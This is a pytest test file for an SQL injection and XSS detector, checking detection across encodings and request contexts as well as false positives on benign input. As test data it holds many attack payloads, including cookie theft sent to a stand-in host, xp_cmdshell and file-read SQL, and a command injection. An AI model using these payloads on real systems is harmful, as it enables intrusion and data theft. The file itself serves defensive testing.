"""SQL injection and XSS: detection through evasions in every context, and no alarms on benign input."""

from __future__ import annotations

import html
import json
import random
import string
import sys
import time
from pathlib import Path
from urllib.parse import quote, quote_plus

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from threats import catalogue as C
from workers.detect.decode import (
    MAX_DECODE_ROUNDS,
    backslash_decode,
    expose_mysql_comments,
    fold_width,
    html_decode,
    percent_decode,
    split_pairs,
    variants,
)
from workers.detect.injection import (
    MAX_VALUES_PER_REQUEST,
    check_request,
    check_sql_query,
    json_values,
    sqli_value,
    xml_values,
    xss_value,
)
from workers.detect.sqli import THRESHOLD, injected, prose, score, taken_off

CORPUS = Path(__file__).parent / "corpus"
# every class a request-level check may raise
INJECTION_CLASSES = (C.SQL_INJECTION, C.XSS, C.COMMAND_INJECTION, C.LDAP_INJECTION)


def corpus(name: str) -> list[str]:
    text = (CORPUS / name).read_text("utf-8")
    return [line for line in text.splitlines() if line.strip() and not line.startswith("#")]


def as_query(payload: str) -> str:
    """How a client sends the payload in a query string (already-encoded payloads are sent as they are)."""
    return quote_plus(payload, safe="%&#;") if "%" in payload or "&#" in payload else quote_plus(payload)


def threats(hits: list[C.Hit]) -> set[str]:
    return {h.threat.name for h in hits}


# -- SQL injection over HTTP ---------------------------------------------------------------------------


def test_sqli_corpus_detected_in_query_strings() -> None:
    payloads = corpus("sqli.txt")
    missed = [
        p for p in payloads if "sql_injection" not in threats(check_request("/search?q=" + as_query(p)))
    ]
    assert len(payloads) > 100
    assert len(missed) / len(payloads) <= 0.02, missed


def test_benign_corpus_false_positive_rate() -> None:
    values = corpus("benign_values.txt")
    requests: list[tuple[str, bytes, str]] = []
    for v in values:
        requests.append(("/search?q=" + quote_plus(v) + "&page=2&sort=relevance", b"", ""))
        requests.append(
            ("/api/items", json.dumps({"query": v, "tags": ["a", "b"], "n": 3}).encode(), "application/json")
        )
        requests.append(
            (
                "/form",
                f"name={quote_plus(v)}&comment={quote_plus(v)}".encode(),
                "application/x-www-form-urlencoded",
            )
        )
        requests.append(("/wiki/" + quote(v, safe=""), b"", ""))
    flagged = [r for r in requests if check_request(*r)]
    assert len(values) > 200
    assert len(flagged) / len(requests) <= 0.005, flagged


@pytest.mark.parametrize(
    "uri",
    [
        "/search?q=%27%20OR%201%3D1--",  # percent-encoding
        "/search?q=%2527%2520OR%25201%253D1--",  # double encoding
        "/search?q=%u0027%u0020or%u00201=1--",  # IIS %u encoding
        "/search?q=1'+or+'1'%3D'1",  # plus as space
        "/search?q=&#39;+or+&#39;1&#39;=&#39;1",  # HTML entities
        "/search?q=%26%2339%3B%20or%201%3D1--",  # encoded HTML entities
        "/search?id=1/*!50000UnIoN*/+/*!50000SeLeCt*/+1,2",  # MySQL version comments and case
        "/search?id=1'/**/oR/**/'1'='1",  # inline comments
        "/search?id=1%00'%20or%201=1--",  # NUL byte
        "/item/1'%20or%20'1'='1",  # REST path segment
        "/search?q=admin'%20%23",  # quote cut by a comment
    ],
)
def test_sqli_evasions_in_uri(uri: str) -> None:
    assert threats(check_request(uri)) == {"sql_injection"}


def test_sqli_in_form_json_and_cookie() -> None:
    form = b"user=admin&pass=%27+or+%271%27%3D%271"
    assert threats(check_request("/login", form, "application/x-www-form-urlencoded")) == {"sql_injection"}
    doc = json.dumps({"filter": {"name": ["ok", "x' UNION SELECT password FROM users--"]}}).encode()
    assert threats(check_request("/api", doc, "application/json; charset=utf-8")) == {"sql_injection"}
    assert threats(check_request("/", cookie="session=abc; id=1%27%20or%201%3D1--")) == {"sql_injection"}
    # the same body under a content type we do not decode as form is not split into pairs
    assert check_request("/upload", form, "application/octet-stream") == []


def test_lone_surrogates_do_not_switch_detection_off() -> None:
    body = b'{"a": "\\ud800\' or 1=1 --", "b": "\\udfff<script>alert(1)</script>"}'
    assert threats(check_request("/api", body, "application/json")) == {"sql_injection", "xss"}


def test_json_walk_is_bounded_and_tolerates_bad_json() -> None:
    deep = "[" * 100 + '"x"' + "]" * 100
    assert list(json_values(deep)) == []  # beyond MAX_JSON_DEPTH
    assert list(json_values(b'{"a": ')) == ['{"a": ']
    assert set(json_values(b'{"k": {"v": "w"}, "n": 1}')) == {"k", "v", "w", "n"}


# -- XSS ---------------------------------------------------------------------------------------------------

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(document.cookie)</sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<svg/onload=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "javascript:alert(1)",
    "java\tscript:alert(1)",
    " JaVaScRiPt:alert(1)",
    '<a href="javascript:alert(1)">x</a>',
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<math><mtext><script>alert(1)</script>",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<scr\x00ipt>alert(1)</script>",
    '<object data="data:text/html,<script>alert(1)</script>">',
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "<style>@import'http://198.18.0.1/x.css';</style>",
    '<div style="background:url(javascript:alert(1))">',
    # from the PortSwigger XSS cheat sheet's families, written by hand
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "<img src=1 oNeRrOr=alert`1`>",
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
    "javascript&colon;alert(1)",
    "';alert(1)//",
    '");alert(document.domain)//',
    "{{constructor.constructor('alert(1)')()}}",
    "<form><button formaction=javascript:alert(1)>X",
]


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_xss_payloads_detected(payload: str) -> None:
    assert xss_value(payload) is not None or xss_value(payload, plus=True) is not None


def test_xss_in_request_contexts() -> None:
    assert "xss" in threats(check_request("/search?q=" + quote_plus("<script>alert(1)</script>")))
    assert "xss" in threats(
        check_request("/c", b"body=%3Csvg%2Fonload%3Dalert(1)%3E", "application/x-www-form-urlencoded")
    )
    assert "xss" in threats(
        check_request("/c", json.dumps({"bio": "<img src=x onerror=alert(1)>"}).encode(), "application/json")
    )


@pytest.mark.parametrize("value", corpus("benign_values.txt"))
def test_benign_values_are_not_xss(value: str) -> None:
    assert xss_value(value) is None


# -- SQL from database protocols ----------------------------------------------------------------------------

MALICIOUS_SQL = [
    "SELECT * FROM users WHERE name='admin'--' AND password='x'",
    "SELECT * FROM users WHERE name='admin'#' AND password='x'",
    "SELECT * FROM users WHERE id=1 OR 1=1",
    "SELECT * FROM users WHERE name='' OR 'a'='a'",
    "SELECT * FROM users WHERE name='x' or 'X' LIKE 'x'",
    "SELECT * FROM items WHERE id=1 OR id=id",
    "SELECT * FROM users WHERE id=1 OR 1",
    "SELECT name FROM items WHERE id=-1 UNION SELECT NULL,NULL,NULL",
    "SELECT name FROM items WHERE id=-1 UNION ALL SELECT 1,2,@@version",
    "SELECT name FROM items WHERE id=-1 UNION SELECT user(),2",
    "SELECT * FROM t WHERE id=1 AND SLEEP(5)",
    "SELECT * FROM t WHERE id=1 AND BENCHMARK(1000000,MD5('a'))",
    "SELECT * FROM t WHERE id=1; SELECT pg_sleep(10)",
    "SELECT * FROM t WHERE id=1; WAITFOR DELAY '0:0:5'",
    "EXEC xp_cmdshell 'whoami'",
    "SELECT * FROM t WHERE name='a'; DROP TABLE users",
    "SELECT * FROM t WHERE name='abc",
    "SELECT load_file('/etc/passwd')",
    "SELECT * FROM users INTO OUTFILE '/tmp/users.txt'",
]
BENIGN_SQL = [
    "SELECT id, name FROM users WHERE id = 42",
    "SELECT * FROM users WHERE name = 'O''Brien'",
    "SELECT * FROM users WHERE name = 'O\\'Brien'",
    "SELECT * FROM t WHERE a = 1 OR b = 2",
    "SELECT * FROM t WHERE status = 'open' OR status = 'pending'",
    "SELECT a FROM t1 UNION SELECT b FROM t2",
    "SELECT a, b FROM t1 UNION ALL SELECT c, d FROM t2 ORDER BY 1",
    "INSERT INTO notes (body) VALUES ('select the union -- or not; it''s fine')",
    "UPDATE accounts SET balance = balance - 10 WHERE id = 7",
    "SELECT COUNT(*) FROM orders WHERE created_at > '2024-01-01' /* report */",
    "SELECT * FROM products WHERE name LIKE '%union%'",
    "BEGIN; UPDATE t SET x = 1 WHERE id = 2; COMMIT;",
    "SELECT 1",
    "SHOW TABLES",
    "SET NAMES utf8mb4",
    "SELECT * FROM t WHERE flag = TRUE OR deleted IS NULL",
    "SELECT * FROM t -- list everything",
]


@pytest.mark.parametrize("query", MALICIOUS_SQL)
def test_sql_protocol_injection_detected(query: str) -> None:
    hit = check_sql_query(query)
    assert hit is not None and hit.threat is C.SQL_INJECTION


@pytest.mark.parametrize("query", BENIGN_SQL)
def test_sql_protocol_benign_queries_pass(query: str) -> None:
    assert check_sql_query(query) is None


def test_plain_sqli_value_checks() -> None:
    assert sqli_value("O'Brien") is None
    hit = sqli_value("1' or '1'='1")
    assert hit is not None and "libinjection fingerprint" in hit.detail and hit.excerpt == b"1' or '1'='1"


# -- decoders ---------------------------------------------------------------------------------------------


def test_decoders_on_known_values() -> None:
    assert percent_decode("a%20b+c", plus=True) == "a b c"
    assert percent_decode("a+b") == "a+b"
    assert percent_decode("%C3%A9t%C3%A9") == "été"
    assert percent_decode("%u0041%zz%4") == "A%zz%4"
    assert percent_decode("%uD800%u0041") == "\ufffdA"
    assert html_decode("&#39;&#x27;&apos;&lt;") == "'''<"
    assert expose_mysql_comments("1/*!50000union*/select") == "1 union select"
    assert variants("%2527") == ["%2527", "%27", "'"]
    assert split_pairs("a=1&b&&c=x=y;d=", 10) == [("a", "1"), ("b", ""), ("c", "x=y"), ("d", "")]
    assert len(split_pairs("a=1&" * 100, 5)) == 5


@settings(max_examples=300, deadline=None)
@given(st.text())
def test_percent_decode_inverts_quote(text: str) -> None:
    assert percent_decode(quote(text, safe="")) == text
    assert percent_decode(quote_plus(text, safe=""), plus=True) == text


@settings(max_examples=300, deadline=None)
@given(st.text())
def test_html_decode_inverts_escape(text: str) -> None:
    assert html_decode(html.escape(text)) == text


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from("%25uUaDdF01289+&#;x/*!'\" <>-\x00")), st.booleans())
def test_variants_are_total_and_bounded(text: str, plus: bool) -> None:
    forms = variants(text, plus)
    assert 1 <= len(forms) <= MAX_DECODE_ROUNDS + 1
    assert len(set(forms)) == len(forms)
    assert all(len(f) <= len(text) for f in forms[1:]) or plus
    sqli_value(text, plus)
    xss_value(text, plus)


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=300))
def test_sql_query_check_is_total(text: str) -> None:
    hit = check_sql_query(text)
    assert hit is None or hit.threat is C.SQL_INJECTION


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=300), st.text(max_size=50))
def test_check_request_is_total(body: bytes, uri: str) -> None:
    for ctype in ("application/json", "application/x-www-form-urlencoded", ""):
        for hit in check_request(uri, body, ctype, cookie=uri):
            assert hit.threat in INJECTION_CLASSES and len(hit.excerpt) <= C.MAX_FINDING_EXCERPT


def test_realistic_request_uris_raise_nothing() -> None:
    from workers.detect.sensors import Context, compile_sensors

    uris = corpus("benign_requests.txt")
    waf = compile_sensors([{"name": "waf", "predefined": "waf"}])
    assert len(uris) >= 90
    assert [u for u in uris if check_request(u)] == []
    flagged = [u for u in uris if waf.scan(Context.URL, percent_decode(u).encode("utf-8"), "any")]
    assert flagged == []


def test_benign_api_bodies_raise_nothing() -> None:
    lines = corpus("benign_bodies.txt")
    assert len(lines) >= 25
    flagged = []
    for line in lines:
        ctype, _, body = line.partition("\t")
        if check_request("/api/submit", body.encode(), ctype):
            flagged.append(line)
    assert flagged == []


def _otlp_span(statement: str) -> bytes:
    """An OpenTelemetry span as its JSON exporter posts it to a collector, with a `db.statement`."""
    attribute = {"key": "db.statement", "value": {"stringValue": statement}}
    span = {"traceId": "5b8efff798038103d269b633813fc60c", "name": "SELECT shop", "attributes": [attribute]}
    return json.dumps({"resourceSpans": [{"scopeSpans": [{"spans": [span]}]}]}).encode()


@pytest.mark.parametrize(
    "statement",
    [
        "SELECT * FROM users WHERE id = $1",
        "SELECT id, name FROM orders WHERE customer_id = ? AND status = ? ORDER BY created_at DESC LIMIT 20",
        "INSERT INTO events (type, payload) VALUES ($1, $2)",
        "UPDATE accounts SET balance = balance - ? WHERE id = ?",
        "DELETE FROM sessions WHERE expires_at < :now",
    ],
)
def test_a_traced_statement_with_bind_parameters_is_no_injection(statement: str) -> None:
    assert check_request("/v1/traces", _otlp_span(statement), "application/json") == []


@pytest.mark.parametrize(
    "statement",
    [
        "SELECT * FROM users WHERE id = ? OR 1=1",
        "SELECT * FROM users WHERE name = :name UNION SELECT password FROM admins",
        "SELECT * FROM users WHERE id = ?; DROP TABLE users",
        "SELECT * FROM users WHERE id = 1",  # no bind parameter: a statement as any other
    ],
)
def test_a_statement_with_bind_parameters_still_shows_an_injection(statement: str) -> None:
    assert threats(check_request("/v1/traces", _otlp_span(statement), "application/json")) == {
        "sql_injection"
    }


def test_drop_needs_an_object_or_a_comment() -> None:
    assert (
        check_request("/c", b"q=Drop+foo.patch%3B+merged+upstream.", "application/x-www-form-urlencoded")
        == []
    )
    assert threats(check_request("/c", b"q=DROP+sampletable%3B--", "application/x-www-form-urlencoded")) == {
        "sql_injection"
    }


# A password manager's generated passwords (Bitwarden's default alphabet with its special characters),
# posted to a login form: a user whose password is flagged can never log in through Protect
_GENERATED_ALPHABET = string.ascii_letters + string.digits + "!@#$%^&*"


def test_generated_passwords_are_no_injection() -> None:
    rnd = random.Random(20261206)
    passwords = ["".join(rnd.choice(_GENERATED_ALPHABET) for _ in range(n)) for n in (12, 16, 20) * 1000]
    flagged = [
        pw
        for pw in passwords
        if check_request(
            "/login", f"user=ann&password={quote_plus(pw)}".encode(), "application/x-www-form-urlencoded"
        )
    ]
    assert flagged == []


@pytest.mark.parametrize(
    "password",
    [
        "cmIynp@@TcaiG1pQ",
        "7*T29*Ux#T@@Fq5!",
        "'$fT>Wl;!5#9",
        "MyDkIr&MhLo4B&lS",
        "h*u^?|(U9tj=",
        "Ig)IR&`s|u!#",
    ],
)
def test_generated_secrets_with_symbols_are_no_injection(password: str) -> None:
    body = f"user=ann&password={quote_plus(password)}".encode()
    assert check_request("/login", body, "application/x-www-form-urlencoded") == []


@pytest.mark.parametrize(
    "value",
    [
        "admin'#",  # a login bypass: short, one case
        "1'dvZCJz<'\">)ZmzaaA",  # sqlmap's heuristic probe: random letters around a cluster of quotes
        "1'AnD'1'='1",  # random case in keywords
        "x' uNiOn SeLeCt @@VeRsIoN#",
        "Xk9'or'1'='1",
    ],
)
def test_injections_that_look_generated_are_still_found(value: str) -> None:
    assert "sql_injection" in threats(
        check_request("/login", f"password={quote_plus(value)}".encode(), "application/x-www-form-urlencoded")
    )


def test_injection_in_logged_headers() -> None:
    assert threats(check_request("/", header_values=["Mozilla' and sleep(5)#"])) == {"sql_injection"}
    assert threats(check_request("/", header_values=["<script>alert(1)</script>"])) == {"xss"}
    user_agents = [
        "Mozilla/5.0 (X11; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0",
        "curl/8.5.0",
        "kube-probe/1.29",
        "Apache-HttpClient/4.5.14 (Java/17.0.9)",
        "https://www.google.com/search?q=o%27brien",
        "198.18.0.1, 10.0.0.1",
    ]
    assert check_request("/", header_values=user_agents) == []


# -- scored SQL injection signals (workers/detect/sqli.py) -----------------------------------------------

SCORED_SQLI = [
    # (form body as sent, the signal that must be among those reported)
    (b"q=%27+ORDER+BY+22--+", "clause after a quote"),
    (b"q=%27+HAVING+1%3D1--+", "clause after a quote"),
    (b"q=x%27+GROUP+BY+userid+HAVING+1%3D1--", "clause after a quote"),
    (b"q=%22+AND+7300%3D7300+AND+%27pKlZ%27%3D%27pKlZ", "boolean equality of literals"),
    (b"q=+or+%27a%27%3D%27a", "boolean equality of literals"),
    (b"q=hi+or+a%3Da", "boolean equality of literals"),
    (b"q=1+UNION+ALL+SELECT+%27INJ%27%7C%7C%27ECT%27%7C%7C%27XXX%27%2C2%2C3", "union select"),
    (b"q=1+ORDER+BY+1%2CSLEEP%285%29%2CBENCHMARK%281000000%2CMD5%28%27A%27%29%29", "time delay"),
    (b"q=%29%3Bwaitfor+delay+%270%3A0%3A5%27--", "time delay"),
    (b"q=1+or+pg_sleep%285%29--", "time delay"),
    (b"q=1%3BSELECT+%2A+FROM+users", "stacked statement"),
    (b"q=%27%3B+exec+master..xp_cmdshell+%27ping+198.18.0.1%27--", "system object"),
    (b"q=or+true--", "constant truth after OR"),
    (b"q=admin%27+--+", "quote cut by a comment"),
    (b"q=UNI%2F%2A%2A%2FON+SEL%2F%2A%2A%2FECT+1", "union select"),  # comments inside words
    # sqlmap's first probes, and its payloads with `+` for spaces (tamper space2plus, sent as %2B)
    (b"q=1%29%22%28%29%29%2C%28%27%28.", "quote-breaking probe"),
    (b"q=1%27YrIbfV%3C%27%22%3E%29kLVkjr", "quote-breaking probe"),
    (b"q=widget%22%29%2BORDER%2BBY%2B1--%2BpMtr", "clause after a quote"),
    (b"q=widget%2BAND%2B6708%3D6708--%2BgWRY", "boolean equality of literals"),
    (
        b"q=widget%27%29%2BAND%2BCASE%2BWHEN%2B5579%3D5579%2BTHEN%2B5579%2BELSE%2B0%2BEND--%2BEXUY",
        "shape probe",
    ),
    (b"q=x%27+--+abcd", "quote cut by a comment"),  # sqlmap ends a payload with a comment and 4 letters
]


@pytest.mark.parametrize(("body", "signal"), SCORED_SQLI)
def test_scored_sqli_signals(body: bytes, signal: str) -> None:
    hits = check_request("/search", body, "application/x-www-form-urlencoded")
    assert [h.threat for h in hits] == [C.SQL_INJECTION]
    value = percent_decode(body.decode().partition("=")[2], plus=True)
    assert signal in score(value)[1]  # the full score; a verdict stops at the first sufficient signals


def test_score_adds_weights_and_needs_the_threshold() -> None:
    assert score("' ORDER BY 22-- ") == (
        7,
        ["clause after a quote", "shape probe", "breaks out of a literal", "ends in a comment"],
    )
    assert score("Order by date, newest first") == (0, [])
    assert injected("O'Brien -- the best") is None  # a quote (1), the comment has words after it
    assert injected("x' or") is None  # breakout and logic after a quote: 2
    assert injected("x' or 1 --") is not None


def test_prose_takes_weight_off_libinjection_only_verdicts() -> None:
    sentence = "One quarter (24%) of people have had an affair and cheated on a partner at some point"
    assert prose(sentence) and not prose("1 AND (SELECT (CASE WHEN (7300=7300) THEN 7300 ELSE 0 END))")
    assert injected(sentence, "nf(1o") is None
    assert injected(sentence + " ' union select password from users--", "nf(1o") is not None


SQL_LOOKALIKES = [
    b"q=Order+by+date%2C+newest+first",
    b"q=it%27s+a+select+few+from+the+union",
    b"q=%22exact+phrase%22+OR+alternative",
    b"q=either+1+or+2",
    b"q=5+%3C+6+and+7+%3E+3%3A+a+primer+on+inequalities",
    b"q=Sleep+%285+hours%29+is+not+enough",
    b"q=Why+%22SELECT+*%22+is+slow",
    b"q=Tr0ub4dor%263%27%3B",
    b"q=O%27Brien+--+the+best",
    b"q=report+grouped+by+region+having+totals",
    b"q=%22Hello%2C%22+she+said.+%27Hi.%27",
    b"q=C%2B%2B+and+C%23",
    b"q=O%27Brien+--+see+you",
    b"q=read+lines+from+sys.stdin",  # a Python module, not a catalog
    b"q=I+like+it%3B+describe+yourself",
    b"q=please+select+current+user",
    b"q=copy+the+text+from+%27Hamlet%27",
]


# Sentences of documentation people wrote (Debian's READMEs and changelogs, Python's docstrings): each
# was flagged once (libinjection's fingerprints of quoted words, `behavior:` and `expression (` read as
# CSS, `eval()` and `self.write()` as script, a URL after prose as a command's argument)
DOCUMENTATION_SENTENCES = [
    "Handles both 'deflate' and 'gzip' types of compression.",
    "If 'limit' is omitted or None, all entries are extracted.",
    'A preceding "*" indicates that the data is a retransmission.',
    "Blank lines and lines beginning with '#' are skipped.",
    "Also drop libpciaccess-dev from libdrm-dev Depends.",
    "hour (0-23) minute (0-59) second (0-59) microsecond (0-999999) timezone info object Hash.",
    "If a filename is '-' it is also replaced by sys.stdin and the optional arguments are ignored.",
    "Use set_print_string_function(NULL); for default printing to stdout.",
    "Thus declare nettle-dev Multi-Arch: same (Closes: #856160).",
    "It also contains the following, for tuning the behavior:",
    "The output is written by self.write(), below.",
    "If eval_str is true, eval() is called on values of type str.",
    "the regular expression (a|b)* is evaluated first",
    "Pango depends on the GLib library; more information about GLib can be found at https://www.gtk.org/.",
]


@pytest.mark.parametrize("sentence", DOCUMENTATION_SENTENCES)
def test_sentences_of_documentation_are_no_injection(sentence: str) -> None:
    body = ("comment=" + quote_plus(sentence)).encode()
    assert check_request("/comment", body, "application/x-www-form-urlencoded") == []


@pytest.mark.parametrize("body", SQL_LOOKALIKES)
def test_sql_lookalikes_are_not_injections(body: bytes) -> None:
    assert check_request("/search", body, "application/x-www-form-urlencoded") == []


def test_json_fragment_in_a_url_is_not_an_injection() -> None:
    body = b'{"event":"page_view","url":"https://shop.example/p/1#{\\"COLOR\\":\\"#2A1100\\"}"}'
    assert check_request("/collect", body, "application/json") == []
    assert check_request('/shop/product/17#{"COLOR":"#2A1100","SIZE":"M"}') == []


def test_semicolon_in_a_query_value_is_read_whole() -> None:
    assert threats(check_request("/item?id=1;SELECT%20*%20FROM%20users")) == {"sql_injection"}
    assert check_request("/item?id=1;page=2&sort=name") == []


# -- XSS signals ------------------------------------------------------------------------------------------

XSS_MARKUP = [
    b"q=%3Cx+onpointerrawupdate%3Dalert%281%29%3E",  # an event handler libinjection does not list
    b"q=%3Cx%2Fonxxx%3D1",
    b"q=%3Cx+1%3D%271%27onxxx%3D1",
    b"q=%3Cmarquee+loop%3D1+width%3D0+onfinish%3Dalert%281%29%3E",
    b"q=%3CHTML%3E%3CBODY%3E",
    b"q=%3CBR+SIZE%3D%22%26%7Balert%28%27XSS%27%29%7D%22%3E",  # Netscape script entity
    b"q=%3CIMG+SRC%3D%22mocha%3A%5Bcode%5D%22%3E",
    b"q=x%22%3BsetTimeout%28name%2C+1%29%2F%2F",
    b"q=%3Bdocument.location%3D%27http%3A%2F%2F198.18.0.1%2F%27%2Bdocument.cookie",
    b"q=%EF%BC%9Cscript%EF%BC%9Ealert%281%29%EF%BC%9C%2Fscript%EF%BC%9E",  # full-width brackets
    b"q=%5Cu003cscript%5Cu003ealert%281%29%5Cu003c%2Fscript%5Cu003e",  # \\u escapes
    # a sink made an alias and the alias called, or called through `.call`: its name is never followed
    # by a bracket
    b"q=k%3Dprompt%3Bm%3Dk%3Bk%28m%29",
    b"q=x%27%3B%24_%3Dconfirm%2C%24_%281%29%2F%2F",
    b"q=setTimeout.call%28null%2Cname%29",
    # an element that runs code made by script
    b"q=%3Bwith%28document%29body.appendChild%28createElement%28%27script%27%29%29.src%3D%27%2F%2F198.18.0.9%27",
    # string pieces joined into a name (`'con'+'firm'`) and into a script URL
    b"q=self%5B%27con%27%2B%27firm%27%5D%281%29",
    b"q=x%3D%5B%27javas%27%2B%27cript%3Aprom%27%2B%27pt%282%29%27%5D",
    # a global object's member named by an expression at run time, and called
    b"q=self%5Batob%28%27Y29uZmlybQ%3D%3D%27%29%5D%281%29",
    b"q=x%27%3Btop%5B%2Fcon%2F.source%2B%2Ffirm%2F.source%5D%282%29%2F%2F",
    # CSS escapes a browser decodes before it reads the property
    b"q=%3Cp+style%3D%22-%5Cmoz-bi%5Cnding%3Aurl%28%2F%2F198.18.0.9%2Fb.xml%23x%29%22%3E",
    b"q=%3Cp+style%3D%22background%3A%5C75rl%28%27javas%5C63ript%3Ax%28%29%27%29%22%3E",
]


@pytest.mark.parametrize("body", XSS_MARKUP)
def test_xss_markup_and_script_signals(body: bytes) -> None:
    assert "xss" in threats(check_request("/c", body, "application/x-www-form-urlencoded"))


XSS_LOOKALIKES = [
    b"q=document.cookie+explained",
    b"q=I+%3C3+SQL+%26+HTML",
    b"q=if+x+%3C+y+then+alert+the+team",
    b"q=%3Cb%3Ebold%3C%2Fb%3E+and+%3Ci%3Eitalic%3C%2Fi%3E",
    b"q=online+%3D+true",
    b"q=call+confirm+%28yes%29",
    b"q=level%3Dalert%2C+then+level+%282%29",  # an alias needs a call written as code
    b"q=see+%27part+1%27%2B%27part+2%27",  # joined strings that make no sink
    b"q=C%3A%5CUsers%5Cstyle%5Curl+notes",  # backslashes outside CSS
    b"q=the+top+%5B3%5D+%28best%29+picks%2C+parent%5B%27s%27%5D+%28see+note%29",  # brackets in prose
]


@pytest.mark.parametrize("body", XSS_LOOKALIKES)
def test_xss_lookalikes_are_not_xss(body: bytes) -> None:
    assert check_request("/c", body, "application/x-www-form-urlencoded") == []


def test_xml_body_values_are_checked() -> None:
    attr = b'<?xml version="1.0"?><root><a probe="&lt;script&gt;alert(1)&lt;/script&gt;"></a></root>'
    text = b"<?xml version='1.0'?><q><id>1' UNION SELECT password FROM users--</id></q>"
    assert threats(check_request("/post", attr, "application/xml")) == {"xss"}
    assert threats(check_request("/post", text, "text/xml")) == {"sql_injection"}
    assert check_request("/post", b"<order><name>O'Brien</name><qty>2</qty></order>", "application/xml") == []
    assert list(xml_values(b"<a b='1'>t</a>" * 1000))[:3] == ["1", "t", "1"]
    assert len(list(xml_values(b"<a>t</a>" * 10_000))) <= MAX_VALUES_PER_REQUEST


def test_backslash_and_full_width_decoding() -> None:
    assert backslash_decode("\\u0027 or \\x271\\x27=\\x271") == "' or '1'='1"
    assert backslash_decode("\\ud800") == "\ufffd" and backslash_decode("\\u00zz") == "\\u00zz"
    assert fold_width("\uff1cscript\uff1e") == "<script>" and fold_width("été") == "été"
    assert variants("%5Cu0027%5Cx3C") == ["%5Cu0027%5Cx3C", "'<"]


@settings(max_examples=300, deadline=None)
@given(
    st.text(alphabet=st.sampled_from("'\"`()=;,-#/*%<> \\ux27abcdeforsleptunion1SELECT\uff1c"), max_size=200),
    st.booleans(),
)
def test_scored_checks_are_total_and_fast(text: str, plus: bool) -> None:
    started = time.perf_counter()
    total, names = score(text)
    assert total >= 0 and len(names) == len(set(names))
    assert (injected(text) is None) == (total < THRESHOLD or total + taken_off(text, False) < THRESHOLD)
    for hit in check_request(
        "/s?q=" + text, text.encode("utf-8", "surrogatepass"), "application/xml" if plus else ""
    ):
        assert hit.threat in INJECTION_CLASSES
    assert time.perf_counter() - started < 1.0


def test_scoring_is_bounded_on_long_values() -> None:
    long = "' or " + "(" * 50_000 + "'a'='a" + " union" * 10_000
    started = time.perf_counter()
    score(long)
    check_request("/s?q=" + quote_plus(long))
    assert time.perf_counter() - started < 2.0


# -- the evaluation script reads CRS tests and payload lists as it should ----------------------------------


def _eval_module():  # scripts/ is not a package: load the script by its path
    import importlib.util

    path = Path(__file__).resolve().parents[2] / "scripts" / "eval_detect.py"
    spec = importlib.util.spec_from_file_location("eval_detect", path)
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    sys.modules[spec.name] = module  # its dataclasses look their module up
    spec.loader.exec_module(module)
    return module


def test_eval_script_scores_crs_style_tests_and_lists(tmp_path: Path) -> None:
    ev = _eval_module()
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "REQUEST-942-APPLICATION-ATTACK-SQLI.conf").write_text(
        'SecRule ARGS "@detectSQLi" \\\n    "id:942100,\\\n    tag:\'paranoia-level/1\',\\\n'
    )
    tests = tmp_path / "tests/regression/tests/REQUEST-942-APPLICATION-ATTACK-SQLI"
    tests.mkdir(parents=True)
    stage = "stages:\n      - input:\n          method: POST\n          uri: /post\n          data: {data}\n"
    (tests / "942100.yaml").write_text(
        "rule_id: 942100\ntests:\n"
        + "  - test_id: 1\n    "
        + stage.format(data="\"var=1' or '1'='1\"")
        + "        output:\n          log:\n            expect_ids: [942100]\n"
        + "  - test_id: 2\n    "
        + stage.format(data="var=Miles+O%27Brien")
        + "        output:\n          log:\n            no_expect_ids: [942100]\n"
        # a case whose description names a corpus reserved for an independent evaluation: left out
        + "  - test_id: 3\n    desc: taken from payloadbox's list\n    "
        + stage.format(data="\"var=1' or '2'='2\"")
        + "        output:\n          log:\n            expect_ids: [942100]\n"
    )
    sec = tmp_path / "sec"
    for name, text in (
        (ev.SECLISTS_SQLI[0], "' ORDER BY 22-- \nupdate\n"),
        (ev.SECLISTS_SQLI[1], "x' AND 1=1 AND 'a'='a\n1|uname -a\n"),
        (ev.SECLISTS_XSS[0], "<x onxxx=1\n"),
        (ev.SECLISTS_XSS[1], "plain words\n"),
    ):
        (sec / name).parent.mkdir(parents=True, exist_ok=True)
        (sec / name).write_text(text)
    cases = list(ev.crs_cases(ev.Source(tmp_path))) + list(ev.seclists_cases(ev.Source(sec)))
    rows = ev.evaluate(iter(cases))
    # each row by its own class, and its twin by any injection check (a command in an SQLi list is
    # stopped by the WAF, not detected as SQL injection)
    assert {k: (v["hit"], v["total"]) for k, v in rows.items()} == {
        "crs sqli PL1-2": (1, 1),
        "crs sqli PL1-2 [any class]": (1, 1),
        "crs negative (benign)": (0, 1),
        "crs negative (benign) [any class]": (0, 1),
        "seclists sqli": (2, 3),
        "seclists sqli [any class]": (3, 3),
        "seclists sqli probes": (0, 1),
        "seclists sqli probes [any class]": (0, 1),
        "seclists xss": (1, 2),
        "seclists xss [any class]": (1, 2),
    }
    assert rows["seclists xss"]["misses"] == ["plain words"]
    assert rows["seclists sqli"]["misses"] == ["1|uname -a"]
